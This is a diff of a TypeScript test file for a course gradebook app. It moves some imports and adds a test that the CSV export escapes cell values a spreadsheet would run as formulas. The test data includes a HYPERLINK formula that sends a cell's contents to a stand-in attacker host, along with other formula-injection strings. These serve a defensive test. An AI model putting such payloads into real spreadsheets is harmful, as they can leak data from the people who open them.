@@ -2,10 +2,10 @@ import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, test } from "vitest";
 import { createTestDb, type TestDb } from "@/tests/helpers/db";
 import { commitRoster, parseRosterCsv, previewRoster } from "@/app/_lib/staff/roster";
-import { checkPasswordToken, usePasswordToken } from "@/app/_lib/staff/passwordTokens";
+import { checkPasswordToken, usePasswordToken } from "@/app/_lib/auth/passwordTokens";
 import { CSV_BOM, gradebookCsv } from "@/app/_lib/staff/exportCsv";
 import { loadGradebook } from "@/app/_lib/staff/gradebook";
-import { StaffInputError } from "@/app/_lib/staff/access";
+import { InputError } from "@/app/_lib/errors";
 import { listAudit } from "@/app/_lib/staff/audit";
 import { createStaffFixture, type StaffFixture } from "./fixture";
 
@@ -44,9 +44,9 @@ describe("roster import", () => {
   });
 
   test("rejects a file without a header naming the columns", () => {
-    expect(() => parseRosterCsv("a@b.cd,Name\n")).toThrow(StaffInputError);
-    expect(() => parseRosterCsv("")).toThrow(StaffInputError);
-    expect(() => parseRosterCsv('email,name\n"unterminated,x\n')).toThrow(StaffInputError);
+    expect(() => parseRosterCsv("a@b.cd,Name\n")).toThrow(InputError);
+    expect(() => parseRosterCsv("")).toThrow(InputError);
+    expect(() => parseRosterCsv('email,name\n"unterminated,x\n')).toThrow(InputError);
   });
 
   test("preview reports bad emails, duplicates, unknown roles and members without writing", async () => {
@@ -144,5 +144,29 @@ describe("gradebook CSV export", () => {
     }
     expect(rows.map((x) => x[1])).toContain("Smith, Jane");
     expect(rows.map((x) => x[1])).toContain("王小明");
+  });
+
+  test("names, ids and e-mails that a spreadsheet would run as formulas are written as text", async () => {
+    const hostile = [
+      { email: "eq@example.edu", name: '=HYPERLINK("http://evil.example/?d="&A1,"click")', studentId: "+1+1" },
+      { email: "at@example.edu", name: "@SUM(1,2)", studentId: "-2+3" },
+      { email: "tab@example.edu", name: "\t=1+1", studentId: "\r=1" },
+    ];
+    for (const h of hostile) {
+      const u = await t.db.user.create({ data: h });
+      await t.db.enrollment.create({ data: { courseId: f.a.courseId, userId: u.id, role: "student" } });
+    }
+    const ta = await f.actor(f.a.ta, f.a.courseId);
+    const rows = parse(Buffer.from(await gradebookCsv(t.db, ta, { assignmentId: f.a.assignmentId }), "utf8"), {
+      bom: true,
+    }) as string[][];
+    for (const h of hostile) {
+      const rec = rows.find((r) => r[2] === h.email)!;
+      expect(rec[1]).toBe(`'${h.name}`);
+      expect(rec[0]).toBe(`'${h.studentId}`);
+    }
+    // Ordinary cells, and scores, are untouched.
+    expect(rows.map((x) => x[1])).toContain("Smith, Jane");
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
   });
 });
